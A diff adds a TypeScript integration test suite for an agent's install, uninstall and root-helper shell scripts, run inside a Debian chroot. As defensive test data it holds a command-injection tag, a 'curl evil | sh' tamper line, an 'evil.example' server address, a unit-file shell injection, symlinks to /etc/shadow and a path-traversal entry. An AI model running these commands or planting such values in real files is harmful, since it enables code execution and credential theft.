@@ -1,0 +1,496 @@
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { appendFileSync, chmodSync, copyFileSync, existsSync, lstatSync, mkdirSync, readlinkSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { join } from 'node:path';
+import { after, before, describe, test, type TestContext } from 'node:test';
+import { TestAppliance } from './helpers/appliance.ts';
+import { assembleLinuxBundleFolder, chrootUnavailable, diffListings, TestRoot, writeSha256Sums, type BundleFiles, type Listing } from './helpers/chroot.ts';
+import { AGENT_BIN, REPO_ROOT } from './helpers/processes.ts';
+import { waitFor } from './helpers/wait.ts';
+
+/*
+ * The real install.sh, uninstall.sh and ct-ops-agent-helper.sh, run as root inside a throwaway
+ * Debian bookworm root (test/helpers/chroot.ts), and the installed agent enrolling with a real
+ * appliance on loopback outside the chroot.
+ */
+
+const BUNDLE_PARENT = '/bundle';
+const HOSTILE_TAG = '$(touch /tmp/pwned)`touch /tmp/pwned2`';
+const sha256 = (data: Buffer | string): string => createHash('sha256').update(data).digest('hex');
+
+/** A stand-in executable for the file-level tests (they never run it). */
+const standInAgent = (label: string): string => `#!/bin/sh\n# stand-in agent ${label}\necho "stand-in ${label}"\n`;
+
+function agentToml(address = '127.0.0.1:9443', orgToken = 'tok_test'): string {
+  return [
+    '[ingest]',
+    `address = ${JSON.stringify(address)}`,
+    'ca_cert_file = "/etc/ct-ops/ca.crt"',
+    '',
+    '[agent]',
+    `org_token = ${JSON.stringify(orgToken)}`,
+    'data_dir = "/var/lib/ct-ops/agent"',
+    'heartbeat_interval_secs = 5',
+    `tags = { site = ${JSON.stringify(HOSTILE_TAG)} }`,
+    '',
+  ].join('\n');
+}
+
+const defaultFiles = (label = 'v1'): BundleFiles => ({ agent: standInAgent(label), agentToml: agentToml(), caCert: '-----BEGIN CERTIFICATE-----\ntest\n-----END CERTIFICATE-----\n' });
+
+/**
+ * Produces the extracted bundle folder inside the root and returns its path as seen from inside.
+ * The one place to switch to the real bundler (`ct-ops-bundle build` + unzip) once it exists.
+ */
+function bundleIn(root: TestRoot, files: BundleFiles, name = 'b'): string {
+  const parent = root.at(`${BUNDLE_PARENT}/${name}`);
+  rmSync(parent, { recursive: true, force: true });
+  mkdirSync(parent, { recursive: true });
+  const dir = assembleLinuxBundleFolder(parent, files);
+  return dir.slice(root.path.length);
+}
+
+function mode(root: TestRoot, path: string): { mode: string; uid: number; gid: number } {
+  const stat = statSync(root.at(path));
+  return { mode: (stat.mode & 0o7777).toString(8).padStart(4, '0'), uid: stat.uid, gid: stat.gid };
+}
+
+/** The target of an enablement symlink under the root's /etc/systemd/system (absolute, inside the root). */
+function enabledAs(root: TestRoot, link: string): string | undefined {
+  const path = root.at(`etc/systemd/system/${link}`);
+  return lstatSync(path, { throwIfNoEntry: false })?.isSymbolicLink() ? readlinkSync(path) : undefined;
+}
+
+function assertUnchanged(before: Listing, after: Listing, what: string): void {
+  assert.deepEqual(diffListings(before, after), [], `${what} changed the file system`);
+}
+
+function assertNotPwned(root: TestRoot): void {
+  for (const file of ['tmp/pwned', 'tmp/pwned2']) assert.ok(!existsSync(root.at(file)) && !existsSync(`/${file}`), `${file} exists: a tag was executed`);
+}
+
+/** Files shadow-utils leaves as a side effect of useradd/userdel (backups, lock). */
+const ACCOUNT_DB_SIDE_FILES = /^etc\/(passwd-|group-|shadow-|gshadow-|\.pwd\.lock|subuid-?|subgid-?)$/;
+
+describe('install.sh, uninstall.sh and the helper in a Debian root', { skip: chrootUnavailable(), timeout: 30 * 60_000 }, () => {
+  const roots: TestRoot[] = [];
+  const newRoot = (): TestRoot => {
+    const root = TestRoot.create();
+    roots.push(root);
+    return root;
+  };
+  after(() => {
+    for (const root of roots) root.dispose();
+  });
+
+  const install = (root: TestRoot, bundle: string, ...args: string[]) => root.run([`${bundle}/install.sh`, ...args]);
+
+  test('a fresh install puts every file in place with the documented owner and mode and enables the units, executing no tag', () => {
+    const root = newRoot();
+    const bundle = bundleIn(root, defaultFiles());
+    const result = install(root, bundle, '--no-start');
+    assert.equal(result.code, 0, result.stdout + result.stderr);
+    assert.match(result.stdout, /all 12 bundle files match SHA256SUMS/);
+
+    const account = root.account('ct-ops');
+    assert.ok(account, 'user ct-ops exists');
+    const gid = root.groupId('ct-ops');
+    assert.equal(account.gid, gid);
+    assert.ok(account.uid < 1000, 'a system account');
+    const passwd = readFileSync(root.at('etc/passwd'), 'utf8').split('\n').find((line) => line.startsWith('ct-ops:'))!;
+    assert.match(passwd, /:\/var\/lib\/ct-ops\/agent:\/usr\/sbin\/nologin$/);
+    assert.ok(!existsSync(root.at('home/ct-ops')));
+
+    const expected: Record<string, [string, number, number]> = {
+      'usr/local/bin/ct-ops-agent': ['0755', 0, 0],
+      'etc/ct-ops': ['0755', 0, 0],
+      'etc/ct-ops/agent.toml': ['0640', 0, gid!],
+      'etc/ct-ops/ca.crt': ['0644', 0, 0],
+      'var/lib/ct-ops': ['0755', 0, 0],
+      'var/lib/ct-ops/agent': ['0700', account.uid, gid!],
+      'var/lib/ct-ops/requests': ['0770', 0, gid!],
+      'var/lib/ct-ops/helper': ['0700', 0, 0],
+      'usr/local/libexec/ct-ops/ct-ops-agent-helper.sh': ['0755', 0, 0],
+      'usr/local/libexec/ct-ops/uninstall.sh': ['0755', 0, 0],
+      'etc/systemd/system/ct-ops-agent.service': ['0644', 0, 0],
+      'etc/systemd/system/ct-ops-agent-helper.path': ['0644', 0, 0],
+      'etc/systemd/system/ct-ops-agent-helper.service': ['0644', 0, 0],
+    };
+    for (const [path, [wantMode, uid, wantGid]] of Object.entries(expected)) {
+      assert.deepEqual(mode(root, path), { mode: wantMode, uid, gid: wantGid }, path);
+    }
+    assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'));
+    assert.equal(readFileSync(root.at('etc/ct-ops/agent.toml'), 'utf8'), agentToml(), 'agent.toml copied byte for byte');
+    assert.equal(readFileSync(root.at('etc/systemd/system/ct-ops-agent.service'), 'utf8'), readFileSync(join(REPO_ROOT, 'systemd/ct-ops-agent.service'), 'utf8'));
+    assert.equal(enabledAs(root, 'multi-user.target.wants/ct-ops-agent.service'), '/etc/systemd/system/ct-ops-agent.service', 'agent enabled');
+    assert.equal(enabledAs(root, 'paths.target.wants/ct-ops-agent-helper.path'), '/etc/systemd/system/ct-ops-agent-helper.path', 'helper path unit enabled');
+    assertNotPwned(root);
+    // The user can read its config, and nobody else can.
+    assert.equal(root.run(['cat', '/etc/ct-ops/agent.toml'], { userspec: `${account.uid}:${gid}` }).code, 0);
+    assert.notEqual(root.run(['cat', '/etc/ct-ops/agent.toml'], { userspec: '65534:65534' }).code, 0);
+  });
+
+  describe('a bundle that does not match SHA256SUMS is refused and nothing changes', () => {
+    let root: TestRoot;
+    let baseline: Listing;
+    before(() => {
+      root = newRoot();
+      baseline = root.listing();
+    });
+
+    const cases: Array<{ name: string; code: number; error: RegExp; tamper: (dir: string) => void }> = [
+      { name: 'a tampered executable', code: 4, error: /checksum mismatch for ct-ops-agent/, tamper: (dir) => appendFileSync(join(dir, 'ct-ops-agent'), 'curl evil | sh\n') },
+      { name: 'a tampered agent.toml', code: 4, error: /checksum mismatch for agent\.toml/, tamper: (dir) => writeFileSync(join(dir, 'agent.toml'), agentToml('evil.example:9443')) },
+      { name: 'a tampered unit file', code: 4, error: /checksum mismatch for ct-ops-agent\.service/, tamper: (dir) => appendFileSync(join(dir, 'ct-ops-agent.service'), 'ExecStartPre=/bin/sh -c "id"\n') },
+      { name: 'an extra file', code: 4, error: /unexpected file in the bundle \(not in SHA256SUMS\): evil\.sh/, tamper: (dir) => writeFileSync(join(dir, 'evil.sh'), 'x') },
+      { name: 'an extra hidden file', code: 4, error: /unexpected file.*\.profile/, tamper: (dir) => writeFileSync(join(dir, '.profile'), 'x') },
+      { name: 'a missing file', code: 4, error: /missing or not a regular file: ca\.crt/, tamper: (dir) => unlinkSync(join(dir, 'ca.crt')) },
+      { name: 'a listed file replaced by a symbolic link', code: 4, error: /missing or not a regular file: ca\.crt/, tamper: (dir) => { unlinkSync(join(dir, 'ca.crt')); symlinkSync('/etc/shadow', join(dir, 'ca.crt')); } },
+      { name: 'no SHA256SUMS', code: 4, error: /SHA256SUMS is missing/, tamper: (dir) => unlinkSync(join(dir, 'SHA256SUMS')) },
+      { name: 'a malformed SHA256SUMS line', code: 4, error: /malformed line/, tamper: (dir) => appendFileSync(join(dir, 'SHA256SUMS'), `${'0'.repeat(64)}  ../../etc/passwd\n`) },
+      { name: 'a bundle for another platform', code: 3, error: /this bundle is for linux-arm64 but this machine is linux-x64/, tamper: (dir) => { writeFileSync(join(dir, 'TARGET'), 'linux-arm64\n'); writeSha256Sums(dir); } },
+    ];
+    for (const { name, code, error, tamper } of cases) {
+      test(`${name}: exit ${code}`, () => {
+        const bundle = bundleIn(root, defaultFiles());
+        tamper(root.at(bundle));
+        const result = install(root, bundle, '--no-start');
+        assert.equal(result.code, code, result.stdout + result.stderr);
+        assert.match(result.stderr, error);
+        assertUnchanged(baseline, root.listing(), name);
+      });
+    }
+
+    test('a missing checksum tool refuses the install (exit 5) unless --insecure-skip-checksums, which warns loudly', () => {
+      const bundle = bundleIn(root, defaultFiles());
+      const sha256sum = root.at('usr/bin/sha256sum');
+      const saved = readFileSync(sha256sum);
+      unlinkSync(sha256sum);
+      try {
+        const listing = root.listing();
+        const refused = install(root, bundle, '--no-start');
+        assert.equal(refused.code, 5, refused.stdout + refused.stderr);
+        assert.match(refused.stderr, /no SHA-256 tool/);
+        assertUnchanged(listing, root.listing(), 'the refused install');
+        const forced = install(root, bundle, '--no-start', '--insecure-skip-checksums');
+        assert.equal(forced.code, 0, forced.stdout + forced.stderr);
+        assert.match(forced.stderr, /THE BUNDLE WAS NOT VERIFIED/);
+        assert.ok(existsSync(root.at('usr/local/bin/ct-ops-agent')));
+      } finally {
+        writeFileSync(sha256sum, saved);
+        chmodSync(sha256sum, 0o755);
+      }
+    });
+  });
+
+  test('a non-root user is refused with exit 2; --dry-run prints the actions and changes nothing', () => {
+    const root = newRoot();
+    const bundle = bundleIn(root, defaultFiles());
+    const baseline = root.listing();
+    const asNobody = root.run([`${bundle}/install.sh`, '--no-start'], { userspec: '65534:65534' });
+    assert.equal(asNobody.code, 2, asNobody.stderr);
+    assert.match(asNobody.stderr, /must run as root/);
+    const dry = install(root, bundle, '--no-start', '--dry-run');
+    assert.equal(dry.code, 0, dry.stdout + dry.stderr);
+    assert.match(dry.stdout, /^\[dry-run\] useradd --system --no-create-home/m);
+    assert.match(dry.stdout, /^\[dry-run\] mv -f \/usr\/local\/bin\/\.ct-ops-agent\.ct-ops-new \/usr\/local\/bin\/ct-ops-agent$/m);
+    assert.match(dry.stdout, /^\[dry-run\] systemctl --root=\/ enable ct-ops-agent-helper\.path ct-ops-agent\.service$/m);
+    assertUnchanged(baseline, root.listing(), '--dry-run');
+    const usage = install(root, bundle, '--bogus');
+    assert.equal(usage.code, 1);
+  });
+
+  test('running it again upgrades in place: the binary is replaced, the local config kept unless --replace-config', () => {
+    const root = newRoot();
+    assert.equal(install(root, bundleIn(root, defaultFiles('v1'), 'v1'), '--no-start').code, 0);
+    const account = root.account('ct-ops')!;
+    writeFileSync(root.at('var/lib/ct-ops/agent/agent_state.json'), '{"agent_id":"hst_x"}');
+    const edited = `${agentToml()}# edited on this host\n`;
+    writeFileSync(root.at('etc/ct-ops/agent.toml'), edited);
+
+    const upgrade = install(root, bundleIn(root, { ...defaultFiles('v2'), caCert: 'new CA\n' }, 'v2'), '--no-start');
+    assert.equal(upgrade.code, 0, upgrade.stdout + upgrade.stderr);
+    assert.match(upgrade.stdout, /upgrading in place/);
+    assert.match(upgrade.stdout, /keeping the existing \/etc\/ct-ops\/agent\.toml/);
+    assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v2'));
+    assert.equal(readFileSync(root.at('etc/ct-ops/agent.toml'), 'utf8'), edited);
+    assert.notEqual(readFileSync(root.at('etc/ct-ops/ca.crt'), 'utf8'), 'new CA\n');
+    assert.equal(readFileSync(root.at('var/lib/ct-ops/agent/agent_state.json'), 'utf8'), '{"agent_id":"hst_x"}', 'identity kept');
+    assert.deepEqual(root.account('ct-ops'), account, 'same user');
+    assert.equal(readFileSync(root.at('etc/passwd'), 'utf8').split('\n').filter((line) => line.startsWith('ct-ops:')).length, 1);
+
+    const replace = install(root, bundleIn(root, { ...defaultFiles('v3'), caCert: 'new CA\n' }, 'v3'), '--no-start', '--replace-config');
+    assert.equal(replace.code, 0, replace.stderr);
+    assert.equal(readFileSync(root.at('etc/ct-ops/agent.toml'), 'utf8'), agentToml());
+    assert.equal(readFileSync(root.at('etc/ct-ops/ca.crt'), 'utf8'), 'new CA\n');
+    assert.deepEqual(mode(root, 'etc/ct-ops/agent.toml'), { mode: '0640', uid: 0, gid: root.groupId('ct-ops')! });
+  });
+
+  test('uninstall.sh leaves nothing behind and can run again', () => {
+    const root = newRoot();
+    const bundle = bundleIn(root, defaultFiles());
+    const baseline = root.listing();
+    const passwd = readFileSync(root.at('etc/passwd'), 'utf8');
+    const group = readFileSync(root.at('etc/group'), 'utf8');
+    assert.equal(install(root, bundle, '--no-start').code, 0);
+    writeFileSync(root.at('var/lib/ct-ops/agent/agent_key.pem'), 'secret');
+    const dry = root.run(['/usr/local/libexec/ct-ops/uninstall.sh', '--dry-run']);
+    assert.equal(dry.code, 0, dry.stderr);
+    assert.match(dry.stdout, /^\[dry-run\] rm -rf \/var\/lib\/ct-ops$/m);
+    assert.ok(existsSync(root.at('var/lib/ct-ops/agent/agent_key.pem')));
+
+    const removed = root.run(['/usr/local/libexec/ct-ops/uninstall.sh']);
+    assert.equal(removed.code, 0, removed.stdout + removed.stderr);
+    const left = diffListings(baseline, root.listing()).filter((line) => !ACCOUNT_DB_SIDE_FILES.test(line.replace(/^[+~-] /, '').replace(/:.*$/, '')));
+    // The account databases are rewritten (new mtime) but hold the same entries as before.
+    assert.deepEqual(left.filter((line) => !/^~ etc\/(passwd|group|shadow|gshadow):/.test(line)), []);
+    assert.equal(readFileSync(root.at('etc/passwd'), 'utf8'), passwd);
+    assert.equal(readFileSync(root.at('etc/group'), 'utf8'), group);
+    const again = root.run([`${bundle}/uninstall.sh`]);
+    assert.equal(again.code, 0, again.stderr);
+  });
+
+  test('--root installs into a root file system from outside it, and uninstall --root removes it', () => {
+    const root = newRoot();
+    const bundle = bundleIn(root, defaultFiles());
+    const baseline = root.listing();
+    const result = spawnSync(root.at(`${bundle}/install.sh`), ['--root', root.path], { encoding: 'utf8' });
+    assert.equal(result.status, 0, result.stdout + result.stderr);
+    const account = root.account('ct-ops');
+    assert.ok(account, 'user created in the root, not on the host');
+    assert.deepEqual(mode(root, 'var/lib/ct-ops/agent'), { mode: '0700', uid: account.uid, gid: account.gid });
+    assert.equal(enabledAs(root, 'multi-user.target.wants/ct-ops-agent.service'), '/etc/systemd/system/ct-ops-agent.service');
+    assert.ok(!existsSync('/etc/systemd/system/ct-ops-agent.service') && !existsSync('/var/lib/ct-ops'), 'nothing installed on the host');
+    const removed = spawnSync(root.at('/usr/local/libexec/ct-ops/uninstall.sh'), ['--root', root.path], { encoding: 'utf8' });
+    assert.equal(removed.status, 0, removed.stdout + removed.stderr);
+    const left = diffListings(baseline, root.listing()).filter((line) => !ACCOUNT_DB_SIDE_FILES.test(line.replace(/^[+~-] /, '').replace(/:.*$/, '')) && !/^~ etc\/(passwd|group|shadow|gshadow):/.test(line));
+    assert.deepEqual(left, []);
+  });
+
+  test('--bundle-pubkey verifies SHA256SUMS.minisig: a good signature installs, another key\'s is refused (4), no minisign is refused (5)', (t) => {
+    if (spawnSync('minisign', ['-v']).error) return t.skip('minisign is not installed on this machine (apt-get install -y minisign)');
+    const root = newRoot();
+    const keys = root.at('keys');
+    mkdirSync(keys);
+    for (const name of ['good', 'other']) {
+      const made = spawnSync('minisign', ['-G', '-W', '-p', `${keys}/${name}.pub`, '-s', `${keys}/${name}.key`], { encoding: 'utf8' });
+      assert.equal(made.status, 0, made.stderr);
+    }
+    const sign = (bundle: string, key: string): void => {
+      const signed = spawnSync('minisign', ['-S', '-s', `${keys}/${key}.key`, '-m', root.at(`${bundle}/SHA256SUMS`), '-x', root.at(`${bundle}/SHA256SUMS.minisig`)], { encoding: 'utf8' });
+      assert.equal(signed.status, 0, signed.stderr);
+    };
+    const baseline = root.listing(['proc', 'sys', 'dev', 'run', 'bundle', 'keys']);
+    // minisign is not in the Debian root: inside the chroot the check cannot run, and says so.
+    const inside = bundleIn(root, defaultFiles(), 'in');
+    sign(inside, 'good');
+    const noTool = install(root, inside, '--no-start', '--bundle-pubkey', '/keys/good.pub');
+    assert.equal(noTool.code, 5, noTool.stderr);
+    assert.match(noTool.stderr, /minisign is not installed/);
+    // From the host (which has minisign), into the root with --root.
+    const forged = bundleIn(root, defaultFiles(), 'forged');
+    sign(forged, 'other');
+    const refused = spawnSync(root.at(`${forged}/install.sh`), ['--root', root.path, '--bundle-pubkey', `${keys}/good.pub`], { encoding: 'utf8' });
+    assert.equal(refused.status, 4, refused.stdout + refused.stderr);
+    assert.match(refused.stderr, /SHA256SUMS\.minisig does not verify/);
+    assert.deepEqual(diffListings(baseline, root.listing(['proc', 'sys', 'dev', 'run', 'bundle', 'keys'])), []);
+    const good = bundleIn(root, defaultFiles(), 'good');
+    sign(good, 'good');
+    const installed = spawnSync(root.at(`${good}/install.sh`), ['--root', root.path, '--bundle-pubkey', `${keys}/good.pub`], { encoding: 'utf8' });
+    assert.equal(installed.status, 0, installed.stdout + installed.stderr);
+    assert.match(installed.stdout, /SHA256SUMS signature verified/);
+  });
+
+  describe('the root helper (stubbed systemctl and systemd-run: no systemd runs in a chroot)', () => {
+    let root: TestRoot;
+    const helper = (env: Record<string, string> = {}) => root.run(['/usr/local/libexec/ct-ops/ct-ops-agent-helper.sh'], { env: { CT_OPS_UPDATE_SETTLE_SECS: '0', ...env } });
+    const request = (text: string): void => writeFileSync(root.at('var/lib/ct-ops/requests/request'), text);
+    const resultFile = (): string => readFileSync(root.at('var/lib/ct-ops/requests/result'), 'utf8').trim();
+    const calls = (tool: string): string => (existsSync(root.at(`var/log/stub-${tool}.calls`)) ? readFileSync(root.at(`var/log/stub-${tool}.calls`), 'utf8') : '');
+
+    before(() => {
+      root = newRoot();
+      assert.equal(install(root, bundleIn(root, defaultFiles('v1')), '--no-start').code, 0);
+      // Stand-ins for systemd's tools (the copy of the root is thrown away afterwards).
+      writeFileSync(root.at('usr/bin/systemctl'), `#!/bin/sh
+echo "$*" >>/var/log/stub-systemctl.calls
+case "$*" in
+  *MainPID*)
+    if [ -f /var/log/stub-crashing ]; then n=$(cat /var/log/stub-pid 2>/dev/null || echo 100); n=$((n + 1)); echo "$n" >/var/log/stub-pid; echo "$n"; else echo 4242; fi ;;
+  *ActiveState*) echo active ;;
+esac
+exit 0
+`);
+      writeFileSync(root.at('usr/bin/systemd-run'), '#!/bin/sh\nprintf "%s\\n" "$@" >>/var/log/stub-systemd-run.calls\n');
+      chmodSync(root.at('usr/bin/systemctl'), 0o755);
+      chmodSync(root.at('usr/bin/systemd-run'), 0o755);
+    });
+
+    test('with no request it does nothing', () => {
+      const result = helper();
+      assert.equal(result.code, 0, result.stderr);
+      assert.ok(!existsSync(root.at('var/lib/ct-ops/requests/result')));
+    });
+
+    const refusals: Array<[string, string, RegExp]> = [
+      ['shell code', '$(touch /tmp/pwned)', /refused unexpected-characters/],
+      ['an unknown verb', 'reboot', /refused unknown-verb/],
+      ['two lines', 'uninstall\nupdate x y', /refused more-than-one-line/],
+      ['uninstall with arguments', 'uninstall now', /refused uninstall-takes-no-arguments/],
+      ['a path outside the spool', `update /var/lib/ct-ops/requests/../../../usr/bin/bash ${'a'.repeat(64)}`, /refused staged-file-outside-spool/],
+      ['a staged dot file', `update /var/lib/ct-ops/requests/.. ${'a'.repeat(64)}`, /refused bad-staged-name/],
+      ['a malformed sha256', 'update /var/lib/ct-ops/requests/agent-v2 xyz', /refused malformed-sha256/],
+      ['an overlong request', `update ${'a'.repeat(2000)}`, /refused too-long/],
+    ];
+    for (const [what, text, expected] of refusals) {
+      test(`a request with ${what} is refused, consumed and reported`, () => {
+        request(text);
+        const result = helper();
+        assert.equal(result.code, 1, result.stdout + result.stderr);
+        assert.match(resultFile(), expected);
+        assert.ok(!existsSync(root.at('var/lib/ct-ops/requests/request')), 'consumed');
+        assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'));
+        assertNotPwned(root);
+      });
+    }
+
+    test('a request that is a symbolic link (to a root-only file) is refused without reading it', () => {
+      symlinkSync('/etc/shadow', root.at('var/lib/ct-ops/requests/request'));
+      const result = helper();
+      assert.equal(result.code, 1);
+      assert.match(resultFile(), /refused not-a-regular-file/);
+      assert.ok(!result.stdout.includes('root:'), 'shadow content never echoed');
+    });
+
+    test('a staged binary that is a symbolic link is not followed', () => {
+      const bash = readFileSync(root.at('usr/bin/bash'));
+      symlinkSync('/usr/bin/bash', root.at('var/lib/ct-ops/requests/agent-link'));
+      request(`update /var/lib/ct-ops/requests/agent-link ${sha256(bash)}\n`);
+      assert.equal(helper().code, 1);
+      assert.match(resultFile(), /refused staged-file-unreadable-or-link/);
+      assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'));
+      rmSync(root.at('var/lib/ct-ops/requests/agent-link'), { force: true });
+    });
+
+    test('an update whose sha256 does not match is refused and changes nothing', () => {
+      writeFileSync(root.at('var/lib/ct-ops/requests/agent-v2'), standInAgent('v2'));
+      request(`update /var/lib/ct-ops/requests/agent-v2 ${sha256('something else')}\n`);
+      assert.equal(helper().code, 1);
+      assert.match(resultFile(), /refused sha256-mismatch/);
+      assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v1'));
+    });
+
+    test('a verified update swaps the binary, keeps the previous one and restarts the agent', () => {
+      writeFileSync(root.at('var/lib/ct-ops/requests/agent-v2'), standInAgent('v2'));
+      request(`update /var/lib/ct-ops/requests/agent-v2 ${sha256(standInAgent('v2'))}\n`);
+      const result = helper();
+      assert.equal(result.code, 0, result.stdout + result.stderr);
+      assert.equal(resultFile(), `update ok ${sha256(standInAgent('v2'))}`);
+      assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v2'));
+      assert.deepEqual(mode(root, 'usr/local/bin/ct-ops-agent'), { mode: '0755', uid: 0, gid: 0 });
+      assert.equal(readFileSync(root.at('usr/local/libexec/ct-ops/ct-ops-agent.previous'), 'utf8'), standInAgent('v1'));
+      assert.match(calls('systemctl'), /^restart ct-ops-agent\.service$/m);
+      assert.ok(!existsSync(root.at('var/lib/ct-ops/requests/agent-v2')), 'staged file consumed');
+    });
+
+    test('an update whose agent does not stay up is rolled back to the previous binary', () => {
+      writeFileSync(root.at('var/log/stub-crashing'), '');
+      writeFileSync(root.at('var/lib/ct-ops/requests/agent-v3'), standInAgent('v3'));
+      request(`update /var/lib/ct-ops/requests/agent-v3 ${sha256(standInAgent('v3'))}\n`);
+      const result = helper();
+      rmSync(root.at('var/log/stub-crashing'));
+      assert.equal(result.code, 2, result.stdout + result.stderr);
+      assert.match(resultFile(), /^update rolled-back/);
+      assert.equal(readFileSync(root.at('usr/local/bin/ct-ops-agent'), 'utf8'), standInAgent('v2'));
+      assert.equal(calls('systemctl').match(/^restart ct-ops-agent\.service$/gm)?.length, 3, 'restarted for the update and for the rollback');
+    });
+
+    test('uninstall starts the installed uninstaller in its own transient unit (systemd-run --no-block --collect) with a private log', () => {
+      mkdirSync(root.at('run/systemd/system'), { recursive: true });
+      try {
+        request('uninstall\n');
+        const result = helper();
+        assert.equal(result.code, 0, result.stdout + result.stderr);
+        const args = calls('systemd-run').trim().split('\n');
+        assert.ok(args.includes('--no-block') && args.includes('--collect'), args.join(' '));
+        assert.deepEqual(args.slice(-2), ['/bin/sh', '/usr/local/libexec/ct-ops/uninstall.sh']);
+        assert.ok(args.includes('--property=StandardOutput=append:/var/log/ct-ops-uninstall.log'));
+        assert.deepEqual(mode(root, 'var/log/ct-ops-uninstall.log'), { mode: '0600', uid: 0, gid: 0 });
+        assert.equal(resultFile(), 'uninstall ok');
+      } finally {
+        rmSync(root.at('run/systemd'), { recursive: true, force: true });
+      }
+    });
+
+    test('without systemd as PID 1, uninstall falls back to setsid and the detached uninstaller really removes the agent', async () => {
+      request('uninstall\n');
+      const result = helper();
+      assert.equal(result.code, 0, result.stdout + result.stderr);
+      await waitFor('the detached uninstaller to finish', () => /CT-Ops agent removed/.test(readFileSync(root.at('var/log/ct-ops-uninstall.log'), 'utf8')), 30_000);
+      assert.ok(!existsSync(root.at('usr/local/bin/ct-ops-agent')));
+      assert.ok(!existsSync(root.at('var/lib/ct-ops')));
+      assert.equal(root.account('ct-ops'), undefined);
+      assert.equal(mode(root, 'var/log/ct-ops-uninstall.log').mode, '0600');
+    });
+  });
+
+  describe('the installed agent enrols with a real appliance', () => {
+    let appliance: TestAppliance;
+    let root: TestRoot;
+    before(async () => {
+      appliance = await TestAppliance.start();
+      root = newRoot();
+    });
+    after(async () => {
+      await appliance?.dispose();
+    });
+
+    /**
+     * The real linux-x64 single executable when the agent build produced one; otherwise, until it
+     * does, a two-line launcher that runs this machine's node on dist/ct-ops-agent.cjs copied into
+     * the root (same agent code, not the same packaging).
+     */
+    function agentExecutable(t: TestContext): Buffer | string {
+      const versions = existsSync(join(REPO_ROOT, 'dist/agents')) ? readdirSync(join(REPO_ROOT, 'dist/agents')).sort() : [];
+      const sea = versions.map((version) => `dist/agents/${version}/ct-ops-agent-linux-x64`).filter((path) => existsSync(join(REPO_ROOT, path))).at(-1);
+      if (sea) {
+        t.diagnostic(`agent: single executable ${sea}`);
+        return readFileSync(join(REPO_ROOT, sea));
+      }
+      t.diagnostic('agent: NO single executable in dist/agents/*/ (npm run build:agents -- --target linux-x64); using node + dist/ct-ops-agent.cjs inside the root instead');
+      mkdirSync(root.at('opt/ct-ops-test'), { recursive: true });
+      copyFileSync(process.execPath, root.at('opt/ct-ops-test/node'));
+      chmodSync(root.at('opt/ct-ops-test/node'), 0o755);
+      copyFileSync(AGENT_BIN, root.at('opt/ct-ops-test/ct-ops-agent.cjs'));
+      return '#!/bin/sh\nexec /opt/ct-ops-test/node /opt/ct-ops-test/ct-ops-agent.cjs "$@"\n';
+    }
+
+    test('installed by install.sh and run as ct-ops from the installed config, it passes -check, enrols and streams heartbeats', async (t) => {
+      const { token } = await appliance.createToken('--auto-approve');
+      const bundle = bundleIn(root, { agent: agentExecutable(t), agentToml: agentToml(`127.0.0.1:${appliance.grpcPort}`, token), caCert: appliance.caCert });
+      const installed = install(root, bundle, '--no-start');
+      assert.equal(installed.code, 0, installed.stdout + installed.stderr);
+      root.mountProc();
+      const account = root.account('ct-ops')!;
+      const userspec = `${account.uid}:${account.gid}`;
+
+      const check = root.run(['/usr/local/bin/ct-ops-agent', '-check', '-config', '/etc/ct-ops/agent.toml'], { userspec, timeoutMs: 60_000 });
+      assert.equal(check.code, 0, check.stdout + check.stderr);
+
+      const agent = root.spawn(['/usr/local/bin/ct-ops-agent', '-config', '/etc/ct-ops/agent.toml'], { userspec });
+      try {
+        await agent.waitForLog('heartbeat stream opened', {}, 60_000);
+        const state = JSON.parse(readFileSync(root.at('var/lib/ct-ops/agent/agent_state.json'), 'utf8')) as { agent_id: string };
+        await waitFor('the host online', async () => (await appliance.host(state.agent_id)).status === 'online', 20_000);
+        for (const file of ['agent_key.pem', 'agent_state.json']) {
+          assert.deepEqual(mode(root, `var/lib/ct-ops/agent/${file}`), { mode: '0600', uid: account.uid, gid: account.gid }, file);
+        }
+        assert.ok(!agent.stdout.includes(token), 'the token never appears in the log');
+        assertNotPwned(root);
+      } finally {
+        await agent.stop();
+      }
+    });
+  });
+});
